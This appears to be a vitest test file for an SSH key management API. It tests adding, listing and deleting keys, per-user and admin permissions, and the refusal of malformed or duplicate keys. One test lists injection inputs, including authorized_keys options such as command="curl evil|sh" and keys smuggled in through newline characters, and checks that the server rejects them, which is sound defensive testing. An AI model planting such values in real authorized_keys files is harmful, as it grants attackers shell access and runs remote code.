// The SSH key API under the user, in-process (app.request against an in-memory store): listing, adding,
// removing, the scopes (bob and bob's tokens cannot touch alice's keys; an admin may see and remove them but
// not add one), the refusals (400 with the parser's message, 409 for a duplicate), and that removing a key
// ends the owner's SSH sessions through hub.sshEnd.
import { execFileSync } from "node:child_process";
import { mkdtempSync, readFileSync, rmSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { createHubApp } from "../../main/app.js";
import { Lifecycle } from "../../src/lifecycle.js";
import { log } from "../../src/log.js";
import { Store } from "../../src/store/store.js";
import { RouteTable } from "../../proxy/table.js";
import { config, FakeSpawner } from "./fakes.js";

let dir: string;
let store: Store;
let lifecycle: Lifecycle;
let app: ReturnType<typeof createHubApp>;
const ended: string[] = [];
const prepared: string[] = [];
const tokens: Record<string, string> = {};
const keys: Record<string, string> = {};

beforeAll(() => {
  dir = mkdtempSync(join(tmpdir(), "slicehub-ssh-api-"));
  for (const name of ["one", "two", "three"]) {
    execFileSync("ssh-keygen", ["-q", "-t", "ed25519", "-C", `${name}@laptop`, "-N", "", "-f", join(dir, name)]);
    keys[name] = readFileSync(join(dir, `${name}.pub`), "utf8").trim();
  }
  const cfg = config(`{ "auth": { "kind": "dev", "admin_users": ["admin"] }, "log_level": "error" }`);
  store = new Store(":memory:");
  lifecycle = new Lifecycle({ store, spawner: new FakeSpawner(), table: new RouteTable(), config: () => cfg, log });
  const hub = {
    store,
    lifecycle,
    config: () => cfg,
    log,
    sshEnd: async (user: string) => void ended.push(user),
    sshPrepare: async (user: string) => {
      prepared.push(user);
      if (user === "bob") throw new Error("Unix account jupyter-bob already exists and was not created by slicehub");
    },
  };
  app = createHubApp(hub);
  for (const name of ["admin", "alice", "bob"]) {
    const user = store.ensureUser(name, name === "admin");
    tokens[name] = store.createToken({ userId: user.id, kind: "api", scopes: ["inherit"] }).token;
  }
});

afterAll(async () => {
  await lifecycle.close();
  store.close();
  rmSync(dir, { recursive: true, force: true });
});

const call = async (path: string, token: string, init: { method?: string; body?: unknown } = {}) => {
  const res = await app.request(path, {
    method: init.method ?? "GET",
    headers: { authorization: `token ${token}` },
    body: init.body === undefined ? undefined : typeof init.body === "string" ? init.body : JSON.stringify(init.body),
  });
  const text = await res.text();
  return { status: res.status, json: (text ? JSON.parse(text) : {}) as Record<string, unknown> };
};
const aliceKeys = () => store.listSshKeys(store.getUser("alice")!.id);

describe("SSH key API", () => {
  it("adds a key and lists it with its fingerprint, size and comment", async () => {
    const added = await call("/hub/api/users/alice/ssh-keys", tokens.alice!, { method: "POST", body: { key: keys.one } });
    expect(added.status).toBe(201);
    expect(added.json).toMatchObject({ algorithm: "ssh-ed25519", bits: 256, comment: "one@laptop", last_used: null, key: keys.one!.split(" ").slice(0, 2).join(" ") });
    expect(added.json.fingerprint).toMatch(/^SHA256:[A-Za-z0-9+/]{43}$/);
    expect(added.json.created).toMatch(/^\d{4}-\d\d-\d\dT.*Z$/);
    const list = await call("/hub/api/users/alice/ssh-keys", tokens.alice!);
    expect(list.status).toBe(200);
    expect((list.json.ssh_keys as unknown[]).length).toBe(1);
  });

  it("has the owner's Unix account prepared for SSH after a key is added, and says so when that fails (the key stays)", async () => {
    expect(prepared).toEqual(["alice"]);
    const r = await call("/hub/api/users/bob/ssh-keys", tokens.bob!, { method: "POST", body: { key: keys.three } });
    expect(r.status).toBe(201);
    expect(r.json.warning).toMatch(/could not be prepared for SSH logins: Unix account jupyter-bob already exists/);
    expect(prepared).toEqual(["alice", "bob"]);
    expect(store.listSshKeys(store.getUser("bob")!.id).length).toBe(1);
    // A refused key prepares nothing.
    await call("/hub/api/users/alice/ssh-keys", tokens.alice!, { method: "POST", body: { key: "ssh-dss AAAA" } });
    expect(prepared).toEqual(["alice", "bob"]);
  });

  it("refuses a duplicate with 409 and a bad key with 400 and the parser's message, storing nothing", async () => {
    const dup = await call("/hub/api/users/alice/ssh-keys", tokens.alice!, { method: "POST", body: { key: `${keys.one} other comment` } });
    expect(dup).toMatchObject({ status: 409, json: { message: expect.stringMatching(/already on alice's account/) } });
    const bad = await call("/hub/api/users/alice/ssh-keys", tokens.alice!, { method: "POST", body: { key: "ssh-dss AAAAB3NzaC1kc3MAAACBAP" } });
    expect(bad).toMatchObject({ status: 400, json: { message: expect.stringMatching(/DSA keys are no longer accepted/) } });
    const notJson = await call("/hub/api/users/alice/ssh-keys", tokens.alice!, { method: "POST", body: "ssh-ed25519 AAAA" });
    expect(notJson).toMatchObject({ status: 400, json: { message: expect.stringMatching(/JSON object like \{"key"/) } });
    const extra = await call("/hub/api/users/alice/ssh-keys", tokens.alice!, { method: "POST", body: { key: keys.two, options: "pty" } });
    expect(extra.status).toBe(400);
    expect(aliceKeys().length).toBe(1);
  });

  it("refuses keys with options, two keys in one entry, and a comment that would start a second authorized_keys line", async () => {
    const attempts = [
      `command="/bin/sh" ${keys.two}`,
      `no-pty,from="*" ${keys.two}`,
      `${keys.two}\n${keys.three}`,
      `${keys.two} ${keys.three}`,
      // The comment ends the line and the "next line" is a key with options: refused as a whole, not cut.
      `${keys.two} innocent\ncommand="curl evil|sh" ${keys.three}`,
      `${keys.two} innocent\r${keys.three}`,
      `${keys.two} innocent\u2028${keys.three}`,
    ];
    for (const key of attempts) {
      const r = await call("/hub/api/users/alice/ssh-keys", tokens.alice!, { method: "POST", body: { key } });
      expect(r.status, JSON.stringify(key)).toBe(400);
    }
    expect(aliceKeys().length).toBe(1);
    // A comment with control characters is stored cleaned, one line.
    const odd = await call("/hub/api/users/alice/ssh-keys", tokens.alice!, { method: "POST", body: { key: `${keys.two!.split(" ").slice(0, 2).join(" ")} tab\there\u0000nul\u001b[31m` } });
    expect(odd.status).toBe(201);
    expect(odd.json.comment).toBe("tab here nul [31m");
    await call(`/hub/api/users/alice/ssh-keys/${odd.json.id}`, tokens.alice!, { method: "DELETE" });
  });

  it("does not let bob (or bob's token) list, add or remove alice's keys", async () => {
    const id = aliceKeys()[0]!.id;
    expect((await call("/hub/api/users/alice/ssh-keys", tokens.bob!)).status).toBe(403);
    expect((await call("/hub/api/users/alice/ssh-keys", tokens.bob!, { method: "POST", body: { key: keys.three } })).status).toBe(403);
    expect((await call(`/hub/api/users/alice/ssh-keys/${id}`, tokens.bob!, { method: "DELETE" })).status).toBe(403);
    // Alice's key id under bob's own path is not found there (ids are per owner).
    expect((await call(`/hub/api/users/bob/ssh-keys/${id}`, tokens.bob!, { method: "DELETE" })).status).toBe(404);
    expect(aliceKeys().length).toBe(1);
    // A token of alice's that may only read her account gets nothing here either.
    const narrow = store.createToken({ userId: store.getUser("alice")!.id, kind: "api", scopes: ["read:users!user=alice"] }).token;
    expect((await call("/hub/api/users/alice/ssh-keys", narrow)).status).toBe(403);
    const reader = store.createToken({ userId: store.getUser("alice")!.id, kind: "api", scopes: ["read:users:ssh_keys!user=alice"] }).token;
    expect((await call("/hub/api/users/alice/ssh-keys", reader)).status).toBe(200);
    expect((await call("/hub/api/users/alice/ssh-keys", reader, { method: "POST", body: { key: keys.three } })).status).toBe(403);
    expect((await call("/hub/api/users/nobody/ssh-keys", tokens.bob!)).status).toBe(404);
  });

  it("lets an admin see and remove a user's keys but not add one (a key added would log in as them)", async () => {
    expect((await call("/hub/api/users/alice/ssh-keys", tokens.admin!)).status).toBe(200);
    expect((await call("/hub/api/users/alice/ssh-keys", tokens.admin!, { method: "POST", body: { key: keys.three } })).status).toBe(403);
    const extra = await call("/hub/api/users/alice/ssh-keys", tokens.alice!, { method: "POST", body: { key: keys.three } });
    ended.length = 0;
    expect((await call(`/hub/api/users/alice/ssh-keys/${extra.json.id}`, tokens.admin!, { method: "DELETE" })).status).toBe(204);
    expect(ended).toEqual(["alice"]);
  });

  it("removes a key, ends the owner's SSH sessions, and 404s an unknown or malformed id", async () => {
    const id = aliceKeys()[0]!.id;
    ended.length = 0;
    expect((await call(`/hub/api/users/alice/ssh-keys/${id}`, tokens.alice!, { method: "DELETE" })).status).toBe(204);
    expect(ended).toEqual(["alice"]);
    expect(aliceKeys()).toEqual([]);
    expect((await call(`/hub/api/users/alice/ssh-keys/${id}`, tokens.alice!, { method: "DELETE" })).status).toBe(404);
    expect((await call("/hub/api/users/alice/ssh-keys/1e3", tokens.alice!, { method: "DELETE" })).status).toBe(404);
    expect(ended).toEqual(["alice"]);
  });
});
